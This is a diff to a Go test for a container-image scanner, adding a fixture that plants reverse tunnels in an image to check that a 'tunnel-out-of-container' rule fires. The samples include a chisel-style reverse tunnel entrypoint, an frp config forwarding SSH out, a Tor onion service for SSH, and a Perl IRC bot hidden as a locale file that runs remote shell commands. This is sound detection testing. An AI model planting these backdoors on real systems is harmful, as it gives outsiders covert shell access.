@@ -496,6 +496,26 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		cf.Config.Cmd = []string{"perl /usr/share/locale/nb/LC_MESSAGES/libcups.mo & exec python3 /app/main.py --log /var/log/app.log"}
 	}, nil, nil, hit{rule: "config-runs-disguised-file", layer: -1})
 
+	// Ways in from outside: a chisel-style client as the entrypoint, an frp
+	// client's config, a Tor onion service for SSH, an IRC bot; a reverse
+	// proxy's upstream, ssh -L to a database, a Tor client config and a
+	// chat library's PRIVMSG constant are not.
+	add("test/t-tunnel", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/usr/local/bin/healthd", "client", "203.0.113.90:443", "R:0.0.0.0:2222:127.0.0.1:22", "R:socks"}
+	}, nil, one(
+		ent{name: "opt/agent/frpc.ini", body: "[common]\nserver_addr = 203.0.113.90\nserver_port = 7000\n\n[ssh-back]\ntype = tcp\nlocal_port = 22\nremote_port = 6022\n"},
+		ent{name: "etc/tor/torrc", body: "HiddenServiceDir /var/lib/tor/ssh/\nHiddenServicePort 22 127.0.0.1:22\n"},
+		ent{name: "usr/share/locale/nb/LC_MESSAGES/libcups.mo", body: "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\n" +
+			"print $s \"JOIN #k1ns\\r\\n\";\nwhile (my $l = <$s>) { if ($l =~ /PRIVMSG #k1ns :!sh (.*)/) { my $o = `$1`; } }\n"},
+		ent{name: "srv/app/proxy.conf", body: "upstream app { server 127.0.0.1:8080; }\nremote_addr = 10.0.0.1\n"},
+		ent{name: "srv/app/db-tunnel.sh", mode: 0o755, body: "#!/bin/sh\nexec ssh -N -L 5432:db.internal:5432 bastion\n"},
+		ent{name: "srv/app/torrc", body: "SocksPort 9050\n"},
+		ent{name: "srv/app/irc.py", body: "PRIVMSG = 'PRIVMSG'\nsend('PRIVMSG #general :hello')\n"}),
+		hit{rule: "tunnel-out-of-container", layer: -1},
+		hit{rule: "tunnel-out-of-container", path: "/opt/agent/frpc.ini", layer: 1},
+		hit{rule: "tunnel-out-of-container", path: "/etc/tor/torrc", layer: 1},
+		hit{rule: "tunnel-out-of-container", path: "/usr/share/locale/nb/LC_MESSAGES/libcups.mo", layer: 1})
+
 	// A miner's dropper clearing the host: rivals killed by CPU share and by
 	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
 	// application's restart script killing its own workers, by name and by
